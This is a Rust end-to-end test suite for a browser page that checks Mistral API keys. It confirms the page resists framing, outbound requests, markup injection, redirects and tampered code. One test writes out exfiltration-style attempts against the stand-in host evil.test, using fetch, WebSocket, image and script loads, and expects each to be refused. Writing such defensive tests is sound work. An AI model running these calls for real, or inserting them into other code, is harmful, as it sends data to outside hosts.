//! What holds even when something is against the page: framing, a script that wants out, tampered files.

use anyhow::{Context, Result, ensure};
use e2e::harness::Stage;
use e2e::ledger::CANARY;
use e2e::pages::REPOSITORY;
use e2e::proxy::{FOREIGN_HOST, PAGES_HOST};
use e2e::script::Step;
use serde_json::json;
use thirtyfour::By;

use super::same;

pub(super) async fn inside_another_page_it_takes_no_key(stage: &Stage) -> Result<()> {
    let none = async |host: &str| -> Result<()> {
        let fields = stage.page.count("#api-key, #test-key, input[type=password]").await?;
        same!(fields, 0, "key fields framed by {host}");
        Ok(())
    };
    for host in [FOREIGN_HOST, PAGES_HOST] {
        let frame = format!(
            "<!DOCTYPE html><title>A frame</title><iframe src='https://{PAGES_HOST}{REPOSITORY}' width=900 height=700></iframe>"
        );
        stage.harness.pages.put(host, "/around/index.html", frame)?;
        stage.harness.pages.hold(".wasm");
        stage.page.visit(host, "/around/").await?;
        let driver = stage.browser.driver();
        driver.find(By::Css("iframe")).await?.enter_frame().await?;
        stage.page.wait_for("document.querySelector('#tool') && !document.querySelector('#still')").await?;
        none(host).await.context("before the program runs")?;
        stage.harness.pages.release();
        stage.page.see("#framed").await.with_context(|| format!("framed by {host}"))?;
        none(host).await?;
        driver.enter_default_frame().await?;
    }
    Ok(())
}

/// Below the page's host and outside its folder.
const OTHER_SCRIPT: &str = "/other/script.js";

pub(super) async fn the_policy_lets_nothing_else_out(stage: &Stage) -> Result<()> {
    stage.page.open().await?;
    let page = &stage.page;
    // A file of the same site, but none that the page was published with: another project's, say.
    stage.harness.pages.put(PAGES_HOST, OTHER_SCRIPT, "window.ran = true;")?;
    let attempts = [
        "fetch('https://evil.test/').then(() => 'sent', () => 'refused')",
        "fetch('https://codestral.mistral.ai/v1/models').then(() => 'sent', () => 'refused')",
        "new Promise(done => { const socket = new WebSocket('wss://evil.test/'); \
         socket.onopen = () => done('sent'); socket.onerror = () => done('refused'); })",
        "new Promise(done => { const image = new Image(); image.onload = () => done('sent'); \
         image.onerror = () => done('refused'); image.src = 'https://evil.test/image.png'; })",
        "new Promise(done => { const script = document.createElement('script'); \
         script.onload = () => done('sent'); script.onerror = () => done('refused'); \
         script.src = 'https://evil.test/script.js'; document.head.append(script); })",
        "new Promise(done => { const script = document.createElement('script'); \
         script.onload = () => done('sent'); script.onerror = () => done('refused'); \
         script.src = '/other/script.js'; document.head.append(script); })",
        "import('https://pages.test/other/script.js').then(() => 'sent', () => 'refused')",
    ];
    for attempt in attempts {
        // A thrown SecurityError is a refusal too.
        let attempt = format!("(async () => {attempt})().catch(() => 'refused')");
        same!(page.promise(&attempt, &[]).await?, json!("refused"), "{attempt}");
    }
    let inline = "(() => { const script = document.createElement('script'); script.append('window.ran = true'); \
                  document.head.append(script); return window.ran === true; })()";
    same!(page.value(inline, &[]).await?, json!(false), "an inline script ran");
    // The search at the end of each journey fails for any stranger; this says it in this journey's words.
    let evil: Vec<_> = stage.harness.ledger.strangers();
    ensure!(evil.is_empty(), "connections were opened: {evil:?}");
    let requests = stage.harness.ledger.requests();
    ensure!(requests.iter().all(|request| request.path != OTHER_SCRIPT), "another script was asked for");
    Ok(())
}

/// Both browsers enforce Trusted Types: the one policy is made, and nothing else turns text into markup or code.
pub(super) async fn text_becomes_neither_markup_nor_code(stage: &Stage) -> Result<()> {
    stage.page.open().await?;
    for attempt in [
        "document.createElement('p').innerHTML = '<b></b>'",
        "document.createElement('p').insertAdjacentHTML('beforeend', '<b></b>')",
        "document.createElement('iframe').srcdoc = '<b></b>'",
        "new DOMParser().parseFromString('<b></b>', 'text/html')",
        "document.createElement('script').src = './boot.js'",
        "trustedTypes.createPolicy('another', { createHTML: text => text })",
        "trustedTypes.createPolicy('key-tester', { createHTML: text => text })",
    ] {
        let tried = format!(
            "(() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }})()"
        );
        same!(stage.page.value(&tried, &[]).await?, json!("TypeError"), "{attempt}");
    }
    Ok(())
}

pub(super) async fn a_redirect_is_not_followed(stage: &Stage) -> Result<()> {
    // Both targets would be within the policy: the page's own host and another of Mistral's.
    for target in ["https://pages.test/elsewhere/", "https://api.us.mistral.ai/v1/models"] {
        let step = Step::empty(307).header("location", target);
        stage.harness.mock.script().push("GET /v1/models", step);
        stage.page.open().await?;
        let verdict = stage.page.test(CANARY).await?;
        let told = (verdict.verdict.as_str(), verdict.cause.as_str());
        same!(told, ("unreachable", "blocked"), "what a redirect to {target} comes to");
        let said = "document.querySelector('#verdict').textContent.includes('no redirect is followed')";
        same!(stage.page.value(said, &[]).await?, json!(true), "it is said");
        let console = stage.browser.console().await?;
        ensure!(
            !console.contains("elsewhere") && !console.contains("api.us"),
            "its address is on the console: {console}"
        );
    }
    let requests = stage.harness.ledger.requests();
    let followed = requests.iter().find(|it| it.path == "/elsewhere/" || it.host == "api.us.mistral.ai");
    ensure!(followed.is_none(), "the redirect was followed: {followed:?}");
    Ok(())
}

pub(super) async fn tampered_code_does_not_run(stage: &Stage) -> Result<()> {
    stage.harness.pages.alter(&stage.harness.pages.first_part()?, |bytes| {
        if let Some(last) = bytes.last_mut() {
            *last ^= 1;
        }
    })?;
    stage.page.visit(PAGES_HOST, REPOSITORY).await?;
    stage.page.see("#boot-failed").await?;
    stage.page.see("[data-boot-reason=changed]").await?;
    same!(stage.page.count("#api-key").await?, 0, "key fields");
    Ok(())
}

/// As in the lockdown mode of some browsers. Chromium alone can be told to be like that.
pub(super) async fn a_browser_without_webassembly_is_told_so(stage: &Stage) -> Result<()> {
    let without = json!({ "source": "delete globalThis.WebAssembly" });
    stage.browser.devtools("Page.addScriptToEvaluateOnNewDocument", without).await?;
    stage.page.visit(PAGES_HOST, REPOSITORY).await?;
    stage.page.see("#boot-failed").await?;
    stage.page.see("[data-boot-reason=webassembly]").await?;
    stage.page.see("[data-boot-sent=false]").await?;
    same!(stage.page.count("#api-key").await?, 0, "key fields");
    // What needs no program is still there to be read.
    stage.page.see("#errors-heading").await?;
    Ok(())
}

/// The script that reports failures is itself the one that fails: what is left is a sentence in the page, some seconds on.
pub(super) async fn a_page_that_cannot_start_says_so(stage: &Stage) -> Result<()> {
    stage.harness.pages.alter("/boot-", |bytes| bytes.extend_from_slice(b"\n"))?;
    stage.page.visit(PAGES_HOST, REPOSITORY).await?;
    let said = "document.querySelector('#boot-state').checkVisibility({ visibilityProperty: true })";
    same!(stage.page.value(said, &[]).await?, json!(false), "said before it can be known");
    stage.page.wait_for(said).await?;
    same!(stage.page.count("#still[inert] #api-key").await?, 1, "key fields that take no key");
    same!(stage.page.count("#api-key").await?, 1, "key fields");
    Ok(())
}

pub(super) async fn a_refused_preflight_fails_the_call(stage: &Stage) -> Result<()> {
    // The mock must be as strict as the real one, or the journeys would pass with a header that fails there.
    stage.page.open().await?;
    let ask = "fetch('https://api.mistral.ai/v1/models', { headers: arguments[0], referrerPolicy: 'no-referrer' }) \
               .then(answer => answer.status + ' ' + answer.headers.get('mistral-correlation-id'), () => 'refused')";
    let good = json!({ "Authorization": format!("Bearer {CANARY}") });
    same!(
        stage.page.promise(ask, &[good]).await?,
        json!("200 null"),
        "status, and a header that is not exposed"
    );
    for name in ["X-Api-Key", "X-Stainless-Lang"] {
        same!(stage.page.promise(ask, &[json!({ name: "1" })]).await?, json!("refused"), "{name}");
    }
    same!(stage.harness.ledger.calls().len(), 1, "calls that got through");
    Ok(())
}
